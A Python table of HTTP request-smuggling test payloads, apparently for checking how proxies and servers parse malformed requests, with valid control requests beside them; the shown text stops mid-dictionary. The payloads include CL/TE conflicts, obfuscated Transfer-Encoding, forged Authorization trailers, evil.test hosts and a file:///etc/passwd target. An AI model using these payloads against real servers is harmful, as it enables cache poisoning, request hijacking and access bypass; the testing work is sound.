"""What is said to a server so that two readers of it disagree: by technique, each in bytes of our own.

The techniques are published; where is said above each family. Beside them stand plain requests (`SOUND`) that every rule lets pass:
a proxy that refuses everything would hold against all the rest. Each payload's comment, where it has one, says what is wrong with it.

Longer than most: it is a table.
"""

from __future__ import annotations

from typing import NamedTuple

CRLF = b"\r\n"
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a.test\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked"
ENDED = b"0\r\n\r\n"
"""The end of a chunked body: for a reader by length, five bytes."""


class Payload(NamedTuple):
    family: str
    name: str
    data: bytes
    sound: int = 0
    """How many requests of it must go on."""


def said(*lines: bytes, body: bytes = b"", first: bytes = b"POST /p HTTP/1.1", host: bytes = b"Host: a.test") -> bytes:
    """A request with these fields."""
    return CRLF.join([first, *([host] if host else []), *lines, b"", b""]) + body


def hidden(*lines: bytes) -> bytes:
    """A body that is over by its chunks, and by its length holds a second request."""
    body = ENDED + SMUGGLED
    return said(*lines, b"Content-Length: %d" % len(body), body=body)


def coded(line: bytes) -> bytes:
    """A body said to be chunked in an odd way: who does not see that, sees none, and a second request."""
    return said(line, body=b"4\r\nabcd\r\n" + ENDED + SMUGGLED)


def long(line: bytes, body: bytes = b"0123456789" + SMUGGLED) -> bytes:
    """A body of ten bytes, its length said in an odd way."""
    return said(line, body=body)


def chunks(body: bytes) -> bytes:
    return said(CHUNKED, body=body)


def asked(line: bytes, *lines: bytes, host: bytes = b"Host: a.test") -> bytes:
    """A request line of one's own, and a plain request after it."""
    return said(*lines, first=line, host=host) + SMUGGLED


# What every rule lets pass. RFC 9112 sections 2.2, 3.2, 6.3, 7.1 and 9.3.2, RFC 9110 sections 5.5, 5.6.1 and 9.3.1.
SOUND = {
    "a GET": (1, said(first=b"GET /p?q=1&q=2 HTTP/1.1")),
    "a POST with a length": (1, said(b"Content-Length: 3", body=b"abc")),
    "a POST of length 0": (1, said(b"Content-Length: 0")),
    "a POST without a body": (1, said()),
    "a POST in chunks": (1, chunks(b"3\r\nabc\r\n2\r\nde\r\n" + ENDED)),
    "no chunk but the last": (1, chunks(ENDED)),
    "a size in capitals with zeros before it": (1, chunks(b"00A\r\n0123456789\r\n" + ENDED)),
    "chunk extensions": (1, chunks(b'3;a=b;c="d e";f\r\nabc\r\n0;g\r\n\r\n')),
    "trailers": (1, chunks(b"3\r\nabc\r\n0\r\nX-Sum: 1\r\n\r\n")),
    "a second request in a body": (1, said(b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED)),
    "a second request in a chunk": (1, chunks(b"%x\r\n%b\r\n" % (len(SMUGGLED), SMUGGLED) + ENDED)),
    "two in a row": (2, said(b"Content-Length: 3", body=b"abc") + SMUGGLED),
    "three in a row": (3, said(first=b"GET /1 HTTP/1.1") + chunks(b"1\r\nx\r\n" + ENDED) + SMUGGLED),
    "a GET with a body": (1, said(b"Content-Length: 3", first=b"GET /p HTTP/1.1", body=b"abc")),
    "a DELETE with a body": (1, said(b"Content-Length: 3", first=b"DELETE /p HTTP/1.1", body=b"abc")),
    "a HEAD": (1, said(first=b"HEAD /p HTTP/1.1")),
    "HTTP/1.0 without a Host": (1, said(first=b"GET /p HTTP/1.0", host=b"")),
    "HTTP/1.0 with a length": (1, said(b"Content-Length: 3", first=b"POST /p HTTP/1.0", body=b"abc")),
    "names in odd cases": (1, said(b"cOnTeNt-LeNgTh: 3", host=b"hOsT: a.test", body=b"abc")),
    "no space after the colon": (1, said(b"Content-Length:3", host=b"Host:a.test", body=b"abc")),
    "blanks around the values": (1, said(b"Content-Length:  \t 3 \t", host=b"Host: \ta.test\t", body=b"abc")),
    "the coding in capitals": (1, said(b"Transfer-Encoding: CHUNKED", body=b"3\r\nabc\r\n" + ENDED)),
    "a Host with a port": (1, said(host=b"Host: a.test:8080")),
    "a Host that is an address": (1, said(host=b"Host: [::1]:8080")),
    "an empty value": (1, said(b"X-Empty:")),
    "bytes above ASCII in a value": (1, said(b"X-Name: J\xc3\xb6rg \xff")),
    "Expect": (1, said(b"Expect: 100-continue", b"Content-Length: 3", body=b"abc")),
    "a query with everything": (1, said(first=b"GET /a%2Fb;c=d//e?x=%0d%0a&&y=?/:@ HTTP/1.1")),
}

# PortSwigger, HTTP request smuggling; Watchfire 2005; RFC 9112 sections 6.1, 6.3 and 11.2.
BOTH = {
    "CL.TE": hidden(CHUNKED),
    "TE.CL": said(b"Content-Length: 4", CHUNKED, body=b"5c\r\n" + SMUGGLED + b"\r\n" + ENDED),
    "the length first": said(b"Content-Length: 5", CHUNKED, body=ENDED),
    "the length last": said(CHUNKED, b"Content-Length: 5", body=ENDED),
    "CL 0 and TE": said(b"Content-Length: 0", CHUNKED, body=b"3\r\nabc\r\n" + ENDED + SMUGGLED),
    "CL that is none and TE": said(b"Content-Length: blah", CHUNKED, body=b"1\r\nZ\r\n" + ENDED),
    "an empty CL and TE": said(b"Content-Length: ", CHUNKED, body=b"1\r\nZ\r\n" + ENDED),
    "a GET with both": said(CHUNKED, b"Content-Length: 6", first=b"GET /p HTTP/1.1", body=ENDED + b"X"),
    "a HEAD with both": said(CHUNKED, b"Content-Length: 6", first=b"HEAD /p HTTP/1.1", body=ENDED + b"X"),
    "an OPTIONS with both": said(CHUNKED, b"Content-Length: 6", first=b"OPTIONS /p HTTP/1.1", body=ENDED + b"X"),
    "both, and the connection ends": said(b"Connection: close", CHUNKED, b"Content-Length: 6", body=ENDED + b"X"),
    "CL named in Connection": hidden(b"Connection: Content-Length", CHUNKED),
    "TE named in Connection": hidden(b"Connection: Transfer-Encoding", CHUNKED),
    "TE named in Connection, with no length": said(b"Connection: Transfer-Encoding", CHUNKED, body=b"3\r\nabc\r\n" + ENDED + SMUGGLED),
    "CL named in Connection, with no coding": said(b"Connection: Content-Length", b"Content-Length: 10", body=b"0123456789" + SMUGGLED),
    "Host named in Connection": said(b"Connection: Host", first=b"GET /p HTTP/1.1"),
    "TE in HTTP/1.0": said(CHUNKED, first=b"POST /p HTTP/1.0", body=b"3\r\nabc\r\n" + ENDED + SMUGGLED),
    "TE in HTTP/1.0, kept alive": said(b"Connection: keep-alive", CHUNKED, first=b"POST /p HTTP/1.0", body=ENDED + SMUGGLED),
    "both in HTTP/1.0": said(CHUNKED, b"Content-Length: 5", first=b"POST /p HTTP/1.0", body=ENDED + SMUGGLED),
    "both, the lengths two": said(b"Content-Length: 5", b"Content-Length: 6", CHUNKED, body=ENDED + b"X"),
}  # fmt: skip

# Obfuscated Transfer-Encoding: defparam/smuggler (configs/exhaustive.py), PortSwigger http-request-smuggler (DesyncBox),
# A. Klein "HTTP Request Smuggling in 2020", Http11Probe (SMUG-TE-*), http-garden's trophies, llhttp test/request/transfer-encoding.md.
_CODINGS: dict[str, bytes] = {
    "a space before the colon": b"Transfer-Encoding : chunked",
    "a tab before the colon": b"Transfer-Encoding\t: chunked",
    "a space before the name": b" Transfer-Encoding: chunked",
    "a tab before the name": b"\tTransfer-Encoding: chunked",
    "a space in the name": b"Transfer Encoding: chunked",
    "an underscore in the name": b"Transfer_Encoding: chunked",
    "a backslash in the name": b"Transfer\\Encoding: chunked",
    "junk after the name": b"Transfer-Encoding x: chunked",
    "an escape in the name": b"Transfer-%45ncoding: chunked",
    "a CR in the name": b"Transfer\r-Encoding: chunked",
    "a NUL after the name": b"Transfer-Encoding\x00: chunked",
    "a vertical tab after the name": b"Transfer-Encoding\x0b: chunked",
    "a byte above ASCII in the name": b"Transf\x82r-Encoding: chunked",
    "a no-break space after the name": b"Transfer-Encoding\xa0: chunked",
    "a next-line after the name": b"Transfer-Encoding\x85: chunked",
    "no colon": b"Transfer-Encoding chunked",
    "no value": b"Transfer-Encoding:",
    "a tab before the value": b"Transfer-Encoding:\tchunked",
    "many spaces before the value": b"Transfer-Encoding:      chunked",
    "a vertical tab before the value": b"Transfer-Encoding:\x0bchunked",
    "a form feed before the value": b"Transfer-Encoding:\x0cchunked",
    "a NUL before the value": b"Transfer-Encoding: \x00chunked",
    "a 0xFF before the value": b"Transfer-Encoding:\xffchunked",
    "a no-break space before the value": b"Transfer-Encoding:\xa0chunked",
    "a unit separator before the value": b"Transfer-Encoding: \x1fchunked",
    "a delete before the value": b"Transfer-Encoding: \x7fchunked",
    "a space after the value": b"Transfer-Encoding: chunked ",
    "a tab after the value": b"Transfer-Encoding: chunked\t",
    "a CR after the value": b"Transfer-Encoding: chunked\r",
    "a vertical tab after the value": b"Transfer-Encoding: chunked\x0b",
    "a NUL after the value": b"Transfer-Encoding: chunked\x00",
    "a no-break space after the value": b"Transfer-Encoding: chunked\xa0",
    "a byte above ASCII in the value": b"Transfer-Encoding: ch\x96nked",
    "in quotes": b'Transfer-Encoding: "chunked"',
    "in apostrophes": b"Transfer-Encoding: 'chunked'",
    "in brackets": b"Transfer-Encoding: [chunked]",
    "xchunked": b"Transfer-Encoding: xchunked",
    "chunkedx": b"Transfer-Encoding: chunkedx",
    "chunk": b"Transfer-Encoding: chunk",
    "identity": b"Transfer-Encoding: identity",
    "chunked, identity": b"Transfer-Encoding: chunked, identity",
    "identity, chunked": b"Transfer-Encoding: identity, chunked",
    "identity, chunked, identity": b"Transfer-Encoding: identity, chunked, identity",
    "chunked, cow": b"Transfer-Encoding: chunked, cow",
    "cow, chunked": b"Transfer-Encoding: cow, chunked",
    "cow chunked bar": b"Transfer-Encoding: cow chunked bar",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked",
    "gzip": b"Transfer-Encoding: gzip",
    "chunked, chunked": b"Transfer-Encoding: chunked, chunked",
    "a comma first": b"Transfer-Encoding: ,chunked",
    "a comma last": b"Transfer-Encoding: chunked,",
    "only a comma": b"Transfer-Encoding: ,",
    "a parameter": b"Transfer-Encoding: chunked;q=1",
    "a semicolon": b"Transfer-Encoding: chunked;",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice, identity first": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "twice, identity last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "twice, cow first": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "twice, in two cases": b"Transfer-Encoding: chunked\r\ntransfer-encoding: Chunked",
    "twice, one empty": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded with a tab": b"Transfer-Encoding:\r\n\tchunked",
    "folded by a LF": b"Transfer-Encoding:\n chunked",
    "folded, a vertical tab first": b"Transfer-Encoding:\r\n\x0bchunked",
    "folded in the midst": b"Transfer-Encoding: chun\r\n ked",
    "folded behind another": b"Foo: bar\r\n Transfer-Encoding: chunked",
    "folded before the colon": b"Transfer-Encoding\r\n : chunked",
    "behind a CR": b"Foo: bar\rTransfer-Encoding: chunked",
    "behind a LF": b"Foo: bar\nTransfer-Encoding: chunked",
    "behind a CR at a line's start": b"Foo: bar\r\n\rTransfer-Encoding: chunked",
    "behind two LF": b"Foo: bar\n\nTransfer-Encoding: chunked",
    "in Content-Encoding": b"Content-Encoding: chunked",
    "in capitals": b"TRANSFER-ENCODING: CHUNKED",
    "in odd cases": b"tRANSFER-eNCODING: cHuNkEd",
    "two colons": b"Transfer-Encoding:: chunked",
    "a colon first": b":Transfer-Encoding: chunked",
}  # fmt: skip
CODINGS = {name: coded(line) for name, line in _CODINGS.items()}
# The same beside a length: what one reader overlooks, another goes by.
CODINGS_AND_LENGTHS = {
    name: hidden(_CODINGS[name])
    for name in (
        "a space before the colon", "a tab before the colon", "a space before the name", "an underscore in the name", "no colon",
        "a vertical tab before the value", "a NUL before the value", "a CR after the value", "xchunked", "identity", "chunked, identity",
        "a comma first", "in quotes", "twice, identity last", "folded", "behind a CR", "behind a LF", "in Content-Encoding", "no value",
        "a byte above ASCII in the name", "a next-line after the name", "gzip", "folded behind another", "in odd cases",
    )
}  # fmt: skip

# Lengths: http-garden (aiohttp 1, gunicorn 1 and 3, HAProxy 1, mongoose 1 and 5, OpenLiteSpeed 1-7), Http11Probe (SMUG-CL-*), llhttp
# test/request/content-length.md, Node CVE-2022-32213, RFC 9110 section 8.6.
LENGTHS = {
    "two equal": long(b"Content-Length: 10\r\nContent-Length: 10"),
    "two different": long(b"Content-Length: 10\r\nContent-Length: 0"),
    "two different, the short first": long(b"Content-Length: 0\r\nContent-Length: 10"),
    "two, in two cases": long(b"Content-Length: 10\r\ncontent-length: 0"),
    "an empty one first": long(b"Content-Length:\r\nContent-Length: 10"),
    "an empty one last": long(b"Content-Length: 10\r\nContent-Length:"),
    "a list of equal": long(b"Content-Length: 10, 10"),
    "a list of three": long(b"Content-Length: 10,10, 10"),
    "a list of different": long(b"Content-Length: 10, 0"),
    "a comma first": long(b"Content-Length: ,10"),
    "a comma last": long(b"Content-Length: 10,"),
    "equal but for a zero": long(b"Content-Length: 10\r\nContent-Length: 010"),
    "a plus": long(b"Content-Length: +10"),
    "a minus": long(b"Content-Length: -10"),
    "minus nought": long(b"Content-Length: -0"),
    "hexadecimal": long(b"Content-Length: 0xa"),
    "octal": long(b"Content-Length: 0o12"),
    "digits that are hexadecimal": long(b"Content-Length: a"),
    "a leading zero": long(b"Content-Length: 010"),
    "many zeros": long(b"Content-Length: " + b"0" * 300 + b"10"),
    "an underscore": long(b"Content-Length: 1_0"),
    "a space within": long(b"Content-Length: 1 0"),
    "a space before the colon": long(b"Content-Length : 10"),
    "a tab before the colon": long(b"Content-Length\t: 10"),
    "a next-line after the name": long(b"Content-Length\x85: 10"),
    "an underscore in the name": long(b"Content_Length: 10"),
    "no colon": long(b"Content-Length 10"),
    "empty": long(b"Content-Length:"),
    "a blank": long(b"Content-Length: \t "),
    "a letter after": long(b"Content-Length: 10Z"),
    "a point": long(b"Content-Length: 10.0"),
    "an exponent": long(b"Content-Length: 1e1"),
    "in quotes": long(b'Content-Length: "10"'),
    "a vertical tab before": long(b"Content-Length: \x0b10"),
    "a vertical tab after": long(b"Content-Length: 10\x0b"),
    "a NUL after": long(b"Content-Length: 10\x00"),
    "a CR after": long(b"Content-Length: 10\r"),
    "a no-break space before": long(b"Content-Length: \xa010"),
    "digits of another script": long("Content-Length: \u0661\u0660".encode()),
    "folded": long(b"Content-Length:\r\n 10"),
    "folded in the midst": long(b"Content-Length: 1\r\n 0"),
    "behind a CR": long(b"Foo: bar\rContent-Length: 10"),
    "behind a LF": long(b"Foo: bar\nContent-Length: 10"),
    "a space before the name": long(b" Content-Length: 10"),
    "more than 64 bits": long(b"Content-Length: 18446744073709551626"),
    "a hundred digits": long(b"Content-Length: " + b"9" * 100),
    "9 exabytes": long(b"Content-Length: 9223372036854775807"),
    "a GET, longer than its body": said(b"Content-Length: 4", first=b"GET /p HTTP/1.1", body=b"") + SMUGGLED,
    "none, and a body": said(first=b"GET /p HTTP/1.1", body=b"X" + SMUGGLED),
    "nought, and a body": said(b"Content-Length: 0", body=SMUGGLED),
}

# Chunks: http-garden (ATS 4 and 5, Akamai 2 and 3, Node 2, Go 2, Hyper 1, mongoose 6), Http11Probe (SMUG-CHUNK-*), J. Kettle "HTTP/1.1
# must die", the "funky chunks" papers of 2025 (TERM.EXT, EXT.TERM, TERM.SPILL, SPILL.TERM), RFC 9112 section 7.1 and erratum 7633.
CHUNKS = {
    "0x before the size": chunks(b"0x3\r\nabc\r\n" + ENDED + SMUGGLED),
    "0x before the last": chunks(b"3\r\nabc\r\n0x0\r\n\r\n" + SMUGGLED),
    "a plus": chunks(b"+3\r\nabc\r\n" + ENDED + SMUGGLED),
    "a minus": chunks(b"-3\r\nabc\r\n" + ENDED + SMUGGLED),
    "an underscore": chunks(b"0_3\r\nabc\r\n" + ENDED + SMUGGLED),
    "an underscore in the last": chunks(b"0_2e\r\n\r\n" + SMUGGLED + b"\r\n" + ENDED),
    "a space before the size": chunks(b" 3\r\nabc\r\n" + ENDED + SMUGGLED),
    "a space after the size": chunks(b"3 \r\nabc\r\n" + ENDED + SMUGGLED),
    "a tab after the size": chunks(b"3\t\r\nabc\r\n" + ENDED + SMUGGLED),
    "a vertical tab after the size": chunks(b"3\x0b\r\nabc\r\n" + ENDED + SMUGGLED),
    "a NUL after the size": chunks(b"3\x00\r\nabc\r\n" + ENDED + SMUGGLED),
    "a letter after the size": chunks(b"3z\r\nabc\r\n" + ENDED + SMUGGLED),
    "no size": chunks(b"\r\nabc\r\n" + ENDED + SMUGGLED),
    "only an extension": chunks(b";a\r\nabc\r\n" + ENDED + SMUGGLED),
    "no digit": chunks(b"Z\r\nabc\r\n" + ENDED + SMUGGLED),
    "an empty line between": chunks(b"3\r\nabc\r\n\r\n" + ENDED + SMUGGLED),
    "an empty line at the end": chunks(b"1\r\nZ\r\n\r\n\r\n" + SMUGGLED),
    "only empty lines": chunks(b"\r\n\r\n" + SMUGGLED),
    "a size of 17 digits": chunks(b"10000000000000003\r\nabc\r\n" + ENDED + SMUGGLED),
    "a size of all bits": chunks(b"FFFFFFFFFFFFFFFF\r\nabc\r\n" + ENDED + SMUGGLED),
    "a size of 300 zeros": chunks(b"0" * 300 + b"3\r\nabc\r\n" + ENDED + SMUGGLED),
    "longer than said": chunks(b"3\r\nabcd\r\n" + ENDED + SMUGGLED),
    "much longer than said": chunks(b"3\r\nabc" + SMUGGLED + b"\r\n" + ENDED),
    "shorter than said": chunks(b"5\r\nabc\r\n" + ENDED + SMUGGLED),
    "nothing after the data": chunks(b"3\r\nabc" + ENDED + SMUGGLED),
    "a CR after the data": chunks(b"3\r\nabc\r" + ENDED + SMUGGLED),
    "a LF after the data": chunks(b"3\r\nabc\n" + ENDED + SMUGGLED),
    "two bytes after the data": chunks(b"3\r\nabcXX" + ENDED + SMUGGLED),
    "CR CR after the data": chunks(b"3\r\nabc\r\r" + ENDED + SMUGGLED),
    "a LF after the size": chunks(b"3\nabc\r\n" + ENDED + SMUGGLED),
    "a CR after the size": chunks(b"3\rabc\r\n" + ENDED + SMUGGLED),
    "CR CR LF after the size": chunks(b"3\r\r\nabc\r\n" + ENDED + SMUGGLED),
    "a LF after the last": chunks(b"3\r\nabc\r\n0\n\r\n" + SMUGGLED),
    "LF LF after the last": chunks(b"3\r\nabc\r\n0\n\n" + SMUGGLED),
    "CRLF LF after the last": chunks(b"3\r\nabc\r\n0\r\n\n" + SMUGGLED),
    "a LF in an extension": chunks(b"3;a\nabc\r\n" + ENDED + SMUGGLED),
    "a LF in an extension, then more": chunks(b"2;\nxx\r\n4c\r\n0\r\n\r\n" + SMUGGLED + b"\r\n" + ENDED),
    "a CR in an extension": chunks(b"3;a\rb\r\nabc\r\n" + ENDED + SMUGGLED),
    "a CR before an extension": chunks(b"3\r;a\r\nabc\r\n" + ENDED + SMUGGLED),
    "a NUL in an extension": chunks(b"3;a\x00\r\nabc\r\n" + ENDED + SMUGGLED),
    "an extension that is no token": chunks(b"3;[=]\r\nabc\r\n" + ENDED + SMUGGLED),
    "a semicolon alone": chunks(b"3;\r\nabc\r\n" + ENDED + SMUGGLED),
    "an extension of 20,000 bytes": chunks(b"3;" + b"a" * 20000 + b"\r\nabc\r\n" + ENDED + SMUGGLED),
    "a quoted CRLF in an extension": chunks(b'3;a="\r\nabc\r\n0\r\n\r\n' + SMUGGLED + b'"\r\n'),
    "never the last": chunks(b"3\r\nabc\r\n"),
    "the last, and nothing after it": chunks(b"3\r\nabc\r\n0\r\n"),
    "a last of many zeros": chunks(b"3\r\nabc\r\n00000\r\n\r\n" + SMUGGLED),
}

# Trailers: Http11Probe (SMUG-TRAILER-*), "funky chunks", RFC 9110 section 6.5.1.
_TRAILERS = {
    "a length": b"Content-Length: 5",
    "a coding": b"Transfer-Encoding: chunked",
    "a Host": b"Host: evil.test",
    "Authorization": b"Authorization: Bearer stolen",
    "X-Forwarded-For": b"X-Forwarded-For: 10.0.0.1",
    "a space before the colon": b"X-A : b",
    "no colon": b"X-A b",
    "a folded one": b"X-A: b\r\n c",
    "a LF within": b"X-A: b\nX-B: c",
    "a CR within": b"X-A: b\rX-B: c",
    "a NUL within": b"X-A: b\x00c",
    "a request": b"GET /smuggled HTTP/1.1\r\nX-A: b",
    "named in Trailer": b"X-Sum: 1",
}
TRAILERS = {
    name: said(CHUNKED, *([b"Trailer: X-Sum"] if name == "named in Trailer" else []), body=b"3\r\nabc\r\n0\r\n" + line + b"\r\n\r\n" + SMUGGLED)
    for name, line in _TRAILERS.items()
}  # fmt: skip

# Lines and names: http-garden (Node 1 and 3, gunicorn 2, 5 and 7, mongoose 2-4, OpenLiteSpeed 5, 6, 12 and 14), Http11Probe (RFC9112-*,
# MAL-*), llhttp test/request/invalid.md, J. Kettle "HTTP Desync Attacks", CVE-2023-25690, RFC 9112 sections 2.2 and 5.
LINES = {
    "LF after every line": said(first=b"GET /p HTTP/1.1").replace(CRLF, b"\n") + SMUGGLED,
    "LF after the first line": b"GET /p HTTP/1.1\nHost: a.test\r\n\r\n" + SMUGGLED,
    "LF after a field": b"GET /p HTTP/1.1\r\nHost: a.test\nX-A: b\r\n\r\n" + SMUGGLED,
    "LF for the empty line": b"GET /p HTTP/1.1\r\nHost: a.test\r\n\n" + SMUGGLED,
    "CR after every line": said(first=b"GET /p HTTP/1.1").replace(CRLF, b"\r") + SMUGGLED,
    "CR after the first line": b"GET /p HTTP/1.1\rHost: a.test\r\n\r\n" + SMUGGLED,
    "CR for the empty line": b"GET /p HTTP/1.1\r\nHost: a.test\r\n\rGET /x: y\r\n\r\n" + SMUGGLED,
    "CR CR LF": b"GET /p HTTP/1.1\r\nHost: a.test\r\r\nX-A: b\r\r\n\r\r\n" + SMUGGLED,
    "LF CR": b"GET /p HTTP/1.1\n\rHost: a.test\n\r\n\r" + SMUGGLED,
    "a CR in a value": said(b"X-A: a\rb", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a LF in a value": said(b"X-A: a\nb", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a NUL in a value": said(b"X-A: a\x00b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "an escape in a value": said(b"X-A: a\x1bb", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a delete in a value": said(b"X-A: a\x7fb", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a bell in a value": said(b"X-A: a\x07b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "two LF in a value": said(b"X-A:\n\nGET /smuggled HTTP/1.1", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "LF CR NUL in a value": said(b"X-A: v\n\x00\ralue", first=b"GET /p HTTP/1.1"),
    "a CR in a name": said(b"X\r-A: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a LF in a name": said(b"X\n-A: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a NUL in a name": said(b"X\x00-A: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a space in a name": said(b"X A: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a space before the colon": said(b"X-A : b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a quote in a name": said(b'X"A": b', first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a bracket in a name": said(b"X(A): b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "an at in a name": said(b"X@A: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a byte above ASCII in a name": said(b"X-\xff: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "UTF-8 in a name": said("X-Jörg: b".encode(), first=b"GET /p HTTP/1.1") + SMUGGLED,
    "an empty name": said(b": b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a colon alone": said(b":", b"X-A: b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "no colon": said(b"X-A b", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a pseudo-header": said(b":authority: evil.test", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "an underscore in a name": said(b"X_Forwarded_For: 10.0.0.1", first=b"GET /p HTTP/1.1"),
    "a folded field": said(b"X-A: b\r\n c", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a folded Host": said(first=b"GET /p HTTP/1.1", host=b"Host:\r\n a.test") + SMUGGLED,
    "a first field that is folded": said(first=b"GET /p HTTP/1.1", host=b" X-A: b\r\nHost: a.test") + SMUGGLED,
    "a line of blanks": said(b" ", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "a line of blanks before": b" \r\n" + SMUGGLED,
    "300 fields": said(*[b"X-%d: a" % number for number in range(300)], first=b"GET /p HTTP/1.1"),
    "a value of 70,000 bytes": said(b"X-A: " + b"a" * 70000, first=b"GET /p HTTP/1.1"),
    "a name of 70,000 bytes": said(b"a" * 70000 + b": b", first=b"GET /p HTTP/1.1"),
    "noise": bytes(range(256)) + b"\r\n\r\n" + SMUGGLED,
    "a TLS greeting": b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03" + bytes(200) + b"\r\n\r\n" + SMUGGLED,
    "an empty line before": CRLF + said(first=b"GET /p HTTP/1.1") + SMUGGLED,
    "half a head": b"GET /p HTTP/1.1\r\nHost: a.te",
}

# The first line: http-garden (aiohttp 5, 6, 7 and 9, Libevent 1), Http11Probe, llhttp test/request/{method,uri,invalid}.md, the SCGI and
# HTTP/0.9 tricks of PortSwigger's "Browser-powered desync", RFC 9112 section 3.
FIRST = {
    "HTTP/0.9": b"GET /p\r\n\r\n" + SMUGGLED,
    "HTTP/0.9 said": asked(b"GET /p HTTP/0.9"),
    "HTTP/1.2": asked(b"GET /p HTTP/1.2"),
    "HTTP/1.32": asked(b"GET /p HTTP/1.32"),
    "HTTP/1": asked(b"GET /p HTTP/1"),
    "HTTP/1.": asked(b"GET /p HTTP/1."),
    "HTTP/01.1": asked(b"GET /p HTTP/01.1"),
    "HTTP/2.0": asked(b"GET /p HTTP/2.0"),
    "HTTP/3": asked(b"GET /p HTTP/3"),
    "HTTP/9.9": asked(b"GET /p HTTP/9.9"),
    "a version in lower case": asked(b"GET /p http/1.1"),
    "a version of another name": asked(b"GET /p HTTQ/1.1"),
    "ICE/1.0": asked(b"SOURCE /p ICE/1.0"),
    "a version with a blank": asked(b"GET /p HTTP/1.1 "),
    "a version with junk": asked(b"GET /p HTTP/1.1x"),
    "a version, then more": asked(b"GET /p HTTP/1.1 HTTP/1.1"),
    "a huge version": asked(b"GET /p HTTP/4294967297.1"),
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    "no target": asked(b"GET HTTP/1.1"),
    "an empty target": asked(b"GET  HTTP/1.1"),
    "two spaces": asked(b"GET  /p HTTP/1.1"),
    "two spaces after the target": asked(b"GET /p  HTTP/1.1"),
    "tabs": asked(b"GET\t/p\tHTTP/1.1"),
    "a vertical tab": asked(b"GET\x0b/p HTTP/1.1"),
    "a CR between": asked(b"GET\r/p HTTP/1.1"),
    "a LF before the version": b"GET /p\nHTTP/1.1\r\nHost: a.test\r\n\r\n" + SMUGGLED,
    "a space first": asked(b" GET /p HTTP/1.1"),
    "a space in the target": asked(b"GET /p q HTTP/1.1"),
    "a request in the target": asked(b"GET /p HTTP/1.1\tX: y HTTP/1.1"),
    "a method with brackets": asked(b"G(E)T /p HTTP/1.1"),
    "a method with a comma": asked(b"GET,POST /p HTTP/1.1"),
    "a method with a colon": asked(b"GET: /p HTTP/1.1"),
    "a method in quotes": asked(b'"GET" /p HTTP/1.1'),
    "a method with a NUL": asked(b"GE\x00T /p HTTP/1.1"),
    "a method with a byte above ASCII": asked(b"GE\xffT /p HTTP/1.1"),
    "a method in lower case": asked(b"get /p HTTP/1.1"),
    "an unknown method": asked(b"BREW /p HTTP/1.1"),
    "a method of 10,000 bytes": asked(b"A" * 10000 + b" /p HTTP/1.1"),
    "no method": asked(b"/p HTTP/1.1"),
    "CONNECT": asked(b"CONNECT a.test:443 HTTP/1.1"),
    "CONNECT with a path": asked(b"CONNECT /p HTTP/1.1"),
    "TRACE": asked(b"TRACE /p HTTP/1.1"),
    "TRACE with a body": said(b"Content-Length: %d" % len(SMUGGLED), first=b"TRACE /p HTTP/1.1", body=SMUGGLED),
}

# Targets and hosts: Http11Probe (SMUG-ABSOLUTE-URI-HOST-MISMATCH, RFC9110-HOST-*, MAL-URL-*), J. Kettle "Cracking the lens" and "HTTP/1.1
# must die" (masked Host), http-garden (HAProxy 2), reply-from issue 460, RFC 9112 section 3.2.
TARGETS = {
    "absolute": asked(b"GET http://a.test/p HTTP/1.1"),
    "absolute, of another host": asked(b"GET http://evil.test/p HTTP/1.1"),
    "absolute, without a Host": said(first=b"GET http://a.test/p HTTP/1.1", host=b""),
    "absolute, with a user": asked(b"GET http://a.test@evil.test/p HTTP/1.1"),
    "absolute, without a host": asked(b"GET http:///p HTTP/1.1"),
    "absolute, without a path": asked(b"GET http://a.test HTTP/1.1"),
    "absolute, another scheme": asked(b"GET file:///etc/passwd HTTP/1.1"),
    "an authority": asked(b"GET a.test:80 HTTP/1.1"),
    "two slashes": asked(b"GET //evil.test/p HTTP/1.1"),
    "an at": asked(b"GET @evil.test/p HTTP/1.1"),
    "a path without a slash": asked(b"GET p HTTP/1.1"),
    "an asterisk": asked(b"GET * HTTP/1.1"),
    "an asterisk of OPTIONS": asked(b"OPTIONS * HTTP/1.1"),
    "a query alone": asked(b"GET ?q=1 HTTP/1.1"),
    "a fragment": asked(b"GET /p#f HTTP/1.1"),
    "a backslash": asked(b"GET \\p HTTP/1.1"),
    "backslashes": asked(b"GET /\\evil.test/p HTTP/1.1"),
    "upwards": asked(b"GET /a/../../p HTTP/1.1"),
    "upwards, escaped": asked(b"GET /a/%2e%2e/p HTTP/1.1"),
    "upwards, with a semicolon": asked(b"GET /a/..;/p HTTP/1.1"),
